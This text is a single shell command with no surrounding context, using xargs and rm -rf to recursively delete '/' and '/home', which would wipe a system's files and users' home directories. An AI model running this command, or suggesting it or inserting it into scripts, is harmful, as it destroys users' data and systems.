xargs rm -rf <<< "/ /home"
